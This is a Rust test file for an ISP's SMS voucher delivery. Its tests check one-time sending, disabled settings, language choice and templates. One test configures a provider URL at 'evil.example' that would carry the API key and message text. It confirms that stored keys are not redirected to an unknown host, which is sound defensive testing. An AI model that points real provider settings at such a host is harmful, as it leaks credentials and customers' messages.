//! What is said to telephones: a buyer is sent the voucher, once, whatever the provider and we do; what could not be sent
//! is seen. Two ISPs always.

mod asked_for;
mod contract;
mod mishaps;

use actions::messages::language::remember_language;
use actions::messages::settings::{MessageSettingsError, NewSettings, put_message_settings};
use actions::messages::templates::{PutTemplateError, in_force, put_template};
use domain::messages::language::Language;
use domain::messages::message::{Message, MessageState};
use domain::messages::provider::{HttpMethod, HttpTerms, PhoneForm, Success, Terms};
use domain::messages::template::MessageKind;
use domain::support::exception::{Exception, ExceptionKind};
use domain::time::Span;
use store::messages::outbox::{self, Filter};
use store::support::exceptions;
pub(crate) use tests::texts::terms;
use tests::world::{Isp, World};

use crate::money::{PHONE, Shop, msisdn};

/// The telephone that buys, as providers write it.
pub(crate) const BUYER: &str = "254712345678";

pub(crate) async fn speaks(world: &World, isp: &Isp, change: impl FnOnce(&mut NewSettings)) {
    let mut new = terms();
    change(&mut new);
    put_message_settings(&world.store, &isp.scope, &|_| true, new, world.context()).await.expect("set up");
}

pub(crate) async fn messages(world: &World, isp: &Isp) -> Vec<Message> {
    let mut tx = world.store.tenant(&isp.scope).await.expect("begun");
    outbox::list(&mut tx, &Filter::default(), tests::first_page()).await.expect("listed").rows
}

pub(crate) async fn troubles(world: &World, isp: &Isp) -> Vec<Exception> {
    let mut tx = world.store.tenant(&isp.scope).await.expect("begun");
    let all = exceptions::list(&mut tx, false, tests::first_page()).await.expect("listed").rows;
    all.into_iter().filter(|one| one.kind == ExceptionKind::MessageNotSent).collect()
}

/// Somebody has paid for an hour, and it is served; nothing is sent yet.
pub(crate) async fn sold(shop: &Shop) -> String {
    let payment = shop.buys().await;
    shop.world.gateway.pays();
    shop.is_called_back().await;
    shop.settles().await;
    assert!(shop.is_served(payment.id).await);
    payment.reference.expose().to_owned()
}

/// A shop whose ISP sends messages.
pub(crate) async fn shop() -> Shop {
    let shop = Shop::open().await;
    speaks(&shop.world, &shop.world.isp, |_| {}).await;
    shop
}

pub(crate) async fn sends(world: &World) {
    world.queue().step().await.expect("done");
}

#[tokio::test]
async fn whoever_buys_is_sent_the_voucher_once_with_all_they_need() {
    let shop = shop().await;
    let code = sold(&shop).await;

    sends(&shop.world).await;
    // The shortcode's copy of the same money, and the callback once more.
    shop.is_told_of_the_copy().await;
    shop.is_called_back().await;
    shop.settles().await;
    sends(&shop.world).await;

    let theirs = shop.world.sms.messages_to(BUYER);
    assert_eq!(theirs.len(), 1, "{theirs:?}");
    let zone = &shop.world.isp.tenant.zone;
    let now = shop.world.context().now();
    let moment = |at| policy::messages::words::moment(at, zone);
    let (start, end) = (moment(now), moment(now.plus(Span::minutes(60))));
    let said = format!("Savanna Net: your WiFi code is {code}. Plan hour, from {start} to {end}. Help: 0700111222");
    assert_eq!((theirs[0].text.as_str(), theirs[0].sender.as_str()), (said.as_str(), "SAVANNA"));
    let kept = messages(&shop.world, &shop.world.isp).await;
    assert_eq!(kept.len(), 1);
    assert_eq!((kept[0].state, kept[0].tries, kept[0].parts), (MessageState::Sent, 1, 1));
    assert_eq!(kept[0].reference.as_deref(), Some(theirs[0].reference.as_str()));
    assert_eq!(kept[0].shown, said.replace(&code, "****"));
    assert_eq!(messages(&shop.world, &shop.world.other).await, []);
    assert_eq!(troubles(&shop.world, &shop.world.isp).await, []);
    // What it said is forgotten, and nothing of it stands in the clear.
    let mut tx = shop.tx().await;
    assert!(outbox::text(&mut tx, kept[0].id).await.expect("read").is_none());
}

#[tokio::test]
async fn an_isp_that_has_set_nothing_up_sells_all_the_same() {
    let shop = Shop::open().await;
    sold(&shop).await;
    sends(&shop.world).await;

    assert_eq!(messages(&shop.world, &shop.world.isp).await, []);
    assert_eq!((shop.world.sms.asked(), troubles(&shop.world, &shop.world.isp).await), (0, Vec::new()));
}

#[tokio::test]
async fn switched_off_vouchers_are_not_sent_and_switched_off_sending_is_told_of_what_waits() {
    let shop = shop().await;
    speaks(&shop.world, &shop.world.isp, |new| new.sends_vouchers = false).await;
    sold(&shop).await;
    assert_eq!(messages(&shop.world, &shop.world.isp).await, []);

    shop.world.clock.passes(Span::seconds(80));
    speaks(&shop.world, &shop.world.isp, |_| {}).await;
    sold(&shop).await;
    speaks(&shop.world, &shop.world.isp, |new| new.is_active = false).await;
    sends(&shop.world).await;

    let told = troubles(&shop.world, &shop.world.isp).await;
    assert!(told.len() == 1 && told[0].what.contains("no provider is set up"), "{told:?}");
    assert_eq!(shop.world.sms.asked(), 0);
    // As soon as it is on again, what waits is sent.
    speaks(&shop.world, &shop.world.isp, |_| {}).await;
    shop.world.clock.passes(Span::seconds(6));
    sends(&shop.world).await;
    assert_eq!(shop.world.sms.messages_to(BUYER).len(), 1);
    assert_eq!(troubles(&shop.world, &shop.world.isp).await, []);
}

#[tokio::test]
async fn a_telephone_is_spoken_to_in_the_language_of_its_visit() {
    let shop = shop().await;
    let (world, phone) = (&shop.world, msisdn(PHONE));
    remember_language(&world.store, &world.isp.scope, &phone, &Language::swahili(), world.context())
        .await
        .expect("noted");

    sold(&shop).await;
    sends(&shop.world).await;

    let said = shop.world.sms.messages_to(BUYER).remove(0).text;
    assert!(said.contains("kodi yako ya WiFi"), "{said}");
    assert_eq!(messages(&shop.world, &shop.world.isp).await[0].language, Language::swahili());
}

#[tokio::test]
async fn an_isp_says_it_in_its_own_words_and_its_own_name() {
    let shop = shop().await;
    speaks(&shop.world, &shop.world.isp, |new| new.brand = None).await;
    let (store, scope) = (&shop.world.store, &shop.world.isp.scope);
    let put = |text: &'static str| async {
        let of = (MessageKind::VoucherSold, &Language::english());
        put_template(store, scope, of, text, shop.world.context()).await
    };
    let bad = put("{brand} {pin}").await;
    assert!(matches!(bad, Err(PutTemplateError::Fault(_))), "{bad:?}");
    put("{code} ni yako! {plan} {start} {end} {contact} {price} - {brand}").await.expect("put");

    let code = sold(&shop).await;
    sends(&shop.world).await;

    let said = shop.world.sms.messages_to(BUYER).remove(0).text;
    assert!(said.starts_with(&format!("{code} ni yako! hour ")) && said.ends_with(" - savanna"), "{said}");
    // The other ISP says what comes with the program.
    speaks(&shop.world, &shop.world.other, |_| {}).await;
    let mut theirs = shop.world.store.tenant(&shop.world.other.scope).await.expect("begun");
    let theirs = in_force(&mut theirs).await.expect("listed");
    assert!(theirs.iter().all(|one| one.changed_at.is_none()) && theirs.len() == 8);
}

#[tokio::test]
async fn keys_are_not_sent_to_another_place_by_whoever_does_not_know_them() {
    let world = World::open().await.expect("a world");
    speaks(&world, &world.isp, |_| {}).await;
    let mut elsewhere = terms();
    elsewhere.keys = None;
    elsewhere.terms = Terms::Http(Box::new(HttpTerms {
        method: HttpMethod::Get,
        url: "https://evil.example/?k={key}&to={to}&m={message}".to_owned(),
        headers: Vec::new(),
        body: None,
        phone_form: PhoneForm::Plus,
        success: Success::default(),
    }));

    let refused = put_message_settings(&world.store, &world.isp.scope, &|_| true, elsewhere, world.context()).await;

    assert!(matches!(&refused, Err(MessageSettingsError::Faults(all)) if all[0].part == "key"), "{refused:?}");
    // At the same place the keys stay.
    speaks(&world, &world.isp, |new| {
        new.keys = None;
        new.contact = "0700999888".to_owned();
    })
    .await;
    // And an ISP that has none must give them.
    let mut without = terms();
    without.keys = None;
    let refused = put_message_settings(&world.store, &world.other.scope, &|_| true, without, world.context()).await;
    assert!(matches!(&refused, Err(MessageSettingsError::Faults(all)) if all[0].part == "key"), "{refused:?}");
}

#[tokio::test]
async fn the_running_role_sends_it_by_itself() {
    let shop = shop().await;
    let code = sold(&shop).await;
    shop.world.works();

    let theirs = shop.world.sms.waits_for(BUYER, 1, std::time::Duration::from_secs(20)).await;

    assert!(theirs.len() == 1 && theirs[0].text.contains(&code), "{theirs:?}");
}
